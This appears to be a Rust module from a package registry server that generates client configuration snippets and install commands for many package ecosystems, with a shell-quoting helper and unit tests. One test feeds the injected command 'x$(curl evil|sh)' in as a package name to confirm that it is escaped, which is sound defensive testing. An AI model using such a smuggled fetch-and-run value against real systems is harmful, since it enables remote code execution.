//! "Set up client": for each registry, the commands and configuration its package managers need,
//! written with this server's URL (as the browser reached it) and `$ARCA_TOKEN` where a token goes,
//! plus the `arca registry configure` line that writes the same files; and the line that installs
//! one version.

use arca_protocol::PackageType;

/// One step of a guide: what it is, and the text to copy.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Snippet {
    /// What the text is (a file's name, or what the command does).
    pub label: String,
    /// The text.
    pub text: String,
}

fn snippet(label: impl Into<String>, text: impl Into<String>) -> Snippet {
    Snippet {
        label: label.into(),
        text: text.into(),
    }
}

/// `host[:port]` of an origin (`http://host:port`).
fn host_of(origin: &str) -> &str {
    origin
        .split_once("://")
        .map_or(origin, |(_, host)| host)
        .trim_end_matches('/')
}

/// The `arca registry configure` client for a package type, where there is one.
fn configure_client(package_type: PackageType) -> Option<&'static str> {
    Some(match package_type {
        PackageType::Npm => "npm",
        PackageType::Pypi => "pip",
        PackageType::Maven => "maven",
        PackageType::Cargo => "cargo",
        PackageType::Helm => "helm",
        PackageType::Go => "go",
        PackageType::Rubygems => "gem",
        PackageType::Composer => "composer",
        PackageType::Conda => "conda",
        PackageType::Nuget => "nuget",
        PackageType::Huggingface => "hf",
        PackageType::Debian => "apt",
        PackageType::Rpm => "dnf",
        PackageType::Generic | PackageType::Docker => return None,
    })
}

/// The steps that point `package_type`'s clients at `registry` on the server at `origin`.
pub fn guide(package_type: PackageType, origin: &str, registry: &str) -> Vec<Snippet> {
    let host = host_of(origin);
    let base = |segment: &str| format!("{origin}/{segment}/{registry}");
    let plain_http = origin.starts_with("http:");
    let mut steps = match package_type {
        PackageType::Docker => {
            let insecure = if plain_http {
                format!(
                    "\n# Plain HTTP: add \"{host}\" to \"insecure-registries\" in /etc/docker/daemon.json"
                )
            } else {
                String::new()
            };
            vec![
                snippet(
                    "Sign in",
                    format!(
                        "echo \"$ARCA_TOKEN\" | docker login {host} --username arca --password-stdin{insecure}"
                    ),
                ),
                snippet(
                    "Push and pull",
                    format!(
                        "docker tag my-image:1.0 {host}/{registry}/my-image:1.0\n\
                         docker push {host}/{registry}/my-image:1.0\n\
                         docker pull {host}/{registry}/my-image:1.0"
                    ),
                ),
                snippet(
                    "Helm charts (OCI)",
                    format!(
                        "helm registry login {host} --username arca --password \"$ARCA_TOKEN\"{}\n\
                         helm push my-chart-0.1.0.tgz oci://{host}/{registry}{}",
                        if plain_http { " --plain-http" } else { "" },
                        if plain_http { " --plain-http" } else { "" },
                    ),
                ),
            ]
        }
        PackageType::Npm => {
            let url = base("npm");
            let auth = url.split_once("://").map_or(url.as_str(), |(_, rest)| rest);
            vec![snippet(
                ".npmrc",
                format!("registry={url}/\n//{auth}/:_authToken=${{ARCA_TOKEN}}"),
            )]
        }
        PackageType::Pypi => {
            let authed = origin.replacen("://", "://__token__:$ARCA_TOKEN@", 1);
            vec![
                snippet(
                    "pip.conf",
                    format!("[global]\nindex-url = {authed}/pypi/{registry}/simple/"),
                ),
                snippet(
                    ".pypirc",
                    format!(
                        "[distutils]\nindex-servers = arca\n\n[arca]\nrepository = {}/\n\
                         username = __token__\npassword = $ARCA_TOKEN",
                        base("pypi")
                    ),
                ),
                snippet("Upload", "twine upload -r arca dist/*"),
            ]
        }
        PackageType::Maven => {
            let url = base("maven");
            vec![
                snippet(
                    "~/.m2/settings.xml",
                    arca_protocol::client_config::maven_settings(&url, "${env.ARCA_TOKEN}"),
                ),
                snippet(
                    "pom.xml (to deploy)",
                    arca_protocol::client_config::maven_distribution(&url),
                ),
            ]
        }
        PackageType::Go => {
            let authed = origin.replacen("://", "://arca:$ARCA_TOKEN@", 1);
            vec![snippet(
                "Environment",
                format!(
                    "go env -w GOPROXY={authed}/go/{registry},direct\n\
                     go env -w GONOSUMDB=example.com/your-modules/*"
                ),
            )]
        }
        PackageType::Cargo => vec![
            snippet(
                ".cargo/config.toml",
                format!(
                    "[registries.{registry}]\nindex = \"sparse+{}/index/\"\n\
                     credential-provider = \"cargo:token\"",
                    base("cargo")
                ),
            ),
            snippet(
                "Token and publish",
                format!(
                    "export CARGO_REGISTRIES_{}_TOKEN=\"$ARCA_TOKEN\"\ncargo publish --registry {registry}",
                    registry.to_uppercase().replace(['-', '.'], "_")
                ),
            ),
        ],
        PackageType::Helm => vec![snippet(
            "Repository",
            format!(
                "helm repo add {registry} {} --username arca --password \"$ARCA_TOKEN\"\n\
                 helm repo update\n\
                 curl -u arca:$ARCA_TOKEN --data-binary @my-chart-0.1.0.tgz {}/api/charts",
                base("helm"),
                base("helm")
            ),
        )],
        PackageType::Rubygems => vec![
            snippet(
                "Install",
                format!(
                    "gem install my-gem --clear-sources --source {}/",
                    origin.replacen("://", "://arca:$ARCA_TOKEN@", 1) + "/rubygems/" + registry
                ),
            ),
            snippet(
                "Push",
                format!(
                    "GEM_HOST_API_KEY=$ARCA_TOKEN gem push --host {} my-gem-1.0.0.gem",
                    base("rubygems")
                ),
            ),
        ],
        PackageType::Composer => vec![
            snippet(
                "composer.json",
                format!(
                    "{{\n  \"repositories\": [\n    {{\"type\": \"composer\", \"url\": \"{}\"}}\n  ]{}\n}}",
                    base("composer"),
                    if plain_http {
                        ",\n  \"config\": {\"secure-http\": false}"
                    } else {
                        ""
                    }
                ),
            ),
            snippet(
                "auth.json",
                format!(
                    "{{\"http-basic\": {{\"{host}\": {{\"username\": \"arca\", \"password\": \"$ARCA_TOKEN\"}}}}}}"
                ),
            ),
        ],
        PackageType::Conda => vec![snippet(
            ".condarc",
            format!(
                "channels:\n  - {}/conda/{registry}",
                origin.replacen("://", "://arca:$ARCA_TOKEN@", 1)
            ),
        )],
        PackageType::Nuget => vec![snippet(
            "NuGet.Config",
            arca_protocol::client_config::nuget_config(
                &format!("arca-{registry}"),
                &format!("{}/v3/index.json", base("nuget")),
                "%ARCA_TOKEN%",
            ),
        )],
        PackageType::Huggingface => vec![snippet(
            "Environment",
            format!(
                "export HF_ENDPOINT={}\nexport HF_TOKEN=$ARCA_TOKEN\n\
                 # Arca takes uploads through Git LFS, not Xet.\nexport HF_HUB_DISABLE_XET=1",
                base("hf")
            ),
        )],
        PackageType::Debian => vec![
            snippet(
                "Signing key",
                format!(
                    "arca registry signing-key get {registry} --public | sudo tee /etc/apt/keyrings/arca-{registry}.asc"
                ),
            ),
            snippet(
                "/etc/apt/sources.list.d/arca.list",
                format!(
                    "deb [signed-by=/etc/apt/keyrings/arca-{registry}.asc] {} stable main",
                    base("debian")
                ),
            ),
            snippet(
                "/etc/apt/auth.conf.d/arca.conf",
                format!(
                    "machine {}/ login arca password $ARCA_TOKEN",
                    base("debian")
                ),
            ),
        ],
        PackageType::Rpm => vec![snippet(
            "/etc/yum.repos.d/arca.repo",
            format!(
                "[arca-{registry}]\nname=Arca {registry}\nbaseurl={url}/\nenabled=1\ngpgcheck=0\n\
                 repo_gpgcheck=1\ngpgkey={url}/repodata/repomd.xml.key\nusername=arca\npassword=$ARCA_TOKEN",
                url = base("rpm")
            ),
        )],
        PackageType::Generic => vec![snippet(
            "Upload and download",
            format!(
                "curl -fT tool.zip -H \"Authorization: Bearer $ARCA_TOKEN\" {url}/tool/1.0.0/tool.zip\n\
                 curl -fO -H \"Authorization: Bearer $ARCA_TOKEN\" {url}/tool/1.0.0/tool.zip",
                url = base("generic")
            ),
        )],
    };
    if let Some(client) = configure_client(package_type) {
        steps.push(snippet(
            "Or let the arca CLI write these files",
            format!(
                "export ARCA_SERVER={origin} ARCA_TOKEN=<your token>\n\
                 arca registry configure {client} --registry {registry}{}",
                if package_type == PackageType::Debian {
                    " --suite stable"
                } else {
                    ""
                }
            ),
        ));
    }
    steps
}

/// `word` as one shell word: as it is when it holds only characters no shell treats specially,
/// else in single quotes (a name may hold anything printable: `$(...)` must stay text).
fn sh(word: &str) -> String {
    let plain = !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c));
    if plain {
        word.to_string()
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

/// The command (or snippet) that installs `version` of `package` from `registry` (`file`: the
/// version's first file, which a generic download names). Names are quoted for the shell, or
/// escaped for XML.
pub fn install_line(
    package_type: PackageType,
    origin: &str,
    registry: &str,
    (package, version): (&str, &str),
    file: Option<&str>,
) -> String {
    let host = host_of(origin);
    let (p, v) = (sh(package), sh(version));
    match package_type {
        PackageType::Docker if version.starts_with("sha256:") => {
            format!(
                "docker pull {}",
                sh(&format!("{host}/{registry}/{package}@{version}"))
            )
        }
        PackageType::Docker => {
            format!(
                "docker pull {}",
                sh(&format!("{host}/{registry}/{package}:{version}"))
            )
        }
        PackageType::Npm => format!("npm install {}", sh(&format!("{package}@{version}"))),
        PackageType::Pypi => format!("pip install {}", sh(&format!("{package}=={version}"))),
        PackageType::Maven => {
            let (group, artifact) = package.split_once(':').unwrap_or(("", package));
            let xml = arca_protocol::client_config::xml_escape;
            format!(
                "<dependency>\n  <groupId>{}</groupId>\n  <artifactId>{}</artifactId>\n  \
                 <version>{}</version>\n</dependency>",
                xml(group),
                xml(artifact),
                xml(version)
            )
        }
        PackageType::Go => format!("go get {}", sh(&format!("{package}@{version}"))),
        PackageType::Cargo => format!(
            "cargo add {} --registry {registry}",
            sh(&format!("{package}@{version}"))
        ),
        PackageType::Helm => {
            format!(
                "helm install {p} {} --version {v}",
                sh(&format!("{registry}/{package}"))
            )
        }
        PackageType::Rubygems => format!("gem install {p} -v {v}"),
        PackageType::Composer => {
            format!("composer require {}", sh(&format!("{package}:{version}")))
        }
        PackageType::Conda => format!("conda install {}", sh(&format!("{package}={version}"))),
        PackageType::Nuget => format!("dotnet add package {p} --version {v}"),
        PackageType::Huggingface => format!("huggingface-cli download {p} --revision {v}"),
        PackageType::Debian => format!("sudo apt install {}", sh(&format!("{package}={version}"))),
        PackageType::Rpm => format!("sudo dnf install {}", sh(&format!("{package}-{version}"))),
        PackageType::Generic => {
            let path = super::encoded_path(&[
                "generic",
                registry,
                package,
                version,
                file.unwrap_or("FILE"),
            ]);
            format!(
                "curl -fO -H \"Authorization: Bearer $ARCA_TOKEN\" {}",
                sh(&format!("{origin}{path}"))
            )
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_package_type_has_a_guide_with_the_server_and_registry() {
        for package_type in PackageType::ALL {
            let steps = guide(package_type, "https://arca.example:8443", "team");
            assert!(!steps.is_empty(), "{package_type}");
            let all: String = steps.iter().map(|s| s.text.clone()).collect();
            assert!(all.contains("arca.example:8443"), "{package_type}: {all}");
            assert!(all.contains("team"), "{package_type}: {all}");
        }
    }

    #[test]
    fn npm_setup_names_the_registry_url_and_its_token_line() {
        let steps = guide(PackageType::Npm, "http://127.0.0.1:7070", "js");
        assert_eq!(
            steps[0].text,
            "registry=http://127.0.0.1:7070/npm/js/\n//127.0.0.1:7070/npm/js/:_authToken=${ARCA_TOKEN}"
        );
        assert!(
            steps
                .last()
                .is_some_and(|s| s.text.contains("arca registry configure npm --registry js"))
        );
    }

    #[test]
    fn install_lines_use_each_ecosystems_syntax() {
        let origin = "http://127.0.0.1:7070";
        assert_eq!(
            install_line(PackageType::Docker, origin, "img", ("app/web", "1.2"), None),
            "docker pull 127.0.0.1:7070/img/app/web:1.2"
        );
        assert_eq!(
            install_line(PackageType::Pypi, origin, "py", ("requests", "2.0"), None),
            "pip install requests==2.0"
        );
        assert_eq!(
            install_line(
                PackageType::Generic,
                origin,
                "g",
                ("x$(curl evil|sh)", "1"),
                Some("a b")
            ),
            "curl -fO -H \"Authorization: Bearer $ARCA_TOKEN\" \
             http://127.0.0.1:7070/generic/g/x%24%28curl%20evil%7Csh%29/1/a%20b"
        );
        assert_eq!(
            install_line(PackageType::Npm, origin, "n", ("it's", "1.0.0"), None),
            "npm install 'it'\\''s@1.0.0'"
        );
        assert!(
            install_line(
                PackageType::Maven,
                origin,
                "m",
                ("org.example:lib", "1.0"),
                None
            )
            .contains("<groupId>org.example</groupId>")
        );
    }
}
